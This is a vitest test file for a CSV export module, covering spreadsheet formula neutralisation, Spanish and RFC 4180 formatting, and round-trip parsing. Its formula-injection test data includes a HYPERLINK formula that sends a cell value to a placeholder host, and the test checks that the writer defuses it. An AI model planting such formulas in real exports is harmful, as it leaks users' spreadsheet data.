import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvCell, neutralise, toCsv } from './csv.ts';

describe('the CSV writer (lib/csv.ts)', () => {
  it('makes every text a spreadsheet would run inert, and keeps numbers numbers', () => {
    for (const formula of [
      '=1+1',
      '+SUM(A1)',
      '-A1',
      '@SUM(A1)',
      '\tx',
      '\rx',
      '=HYPERLINK("http://x/?"&A1,"Ver")',
    ]) {
      expect(neutralise(formula)).toBe(`'${formula}`);
    }
    expect(neutralise('-12.50')).toBe('-12.50');
    expect(neutralise('-3')).toBe('-3');
    expect(neutralise('Lucía')).toBe('Lucía');
    expect(csvCell(-12.5, 'es')).toBe('-12,5');
    expect(csvCell({ euros: -12.5 }, 'es')).toBe('-12,50');
    expect(csvCell({ euros: 1234.5 }, 'rfc4180')).toBe('1234.50');
  });

  it('writes days and moments in each dialect', () => {
    const moment = new Date('2026-03-01T23:30:00Z');
    // Madrid is an hour ahead in March: the next day
    expect(csvCell(moment, 'es')).toBe('02/03/2026 00:30');
    expect(csvCell(moment, 'rfc4180')).toBe('2026-03-01T23:30:00.000Z');
    expect(csvCell({ day: '05-01-2026' }, 'es')).toBe('05/01/2026');
    expect(csvCell({ day: '05-01-2026' }, 'rfc4180')).toBe('2026-01-05');
    expect(csvCell({ day: moment }, 'rfc4180')).toBe('2026-03-02');
    expect(csvCell(null, 'es')).toBe('');
    expect(csvCell(true, 'es')).toBe('S');
  });

  it('writes a BOM, CRLF and the dialect’s separator, quoting what needs it, and reads back the same', () => {
    const rows = [['Comisión; "alta"', { euros: 12.5 }, { day: '28-11-2026' }]];
    const spanish = toCsv(['Concepto', 'Importe', 'Fecha'], rows);
    expect(spanish.startsWith('\uFEFFConcepto;Importe;Fecha\r\n')).toBe(true);
    expect(parse(spanish, { bom: true, delimiter: ';' })).toEqual([
      ['Concepto', 'Importe', 'Fecha'],
      ['Comisión; "alta"', '12,50', '28/11/2026'],
    ]);
    const machine = toCsv(['Concepto', 'Importe', 'Fecha'], rows, 'rfc4180');
    expect(parse(machine, { bom: true })).toEqual([
      ['Concepto', 'Importe', 'Fecha'],
      ['Comisión; "alta"', '12.50', '2026-11-28'],
    ]);
  });
});
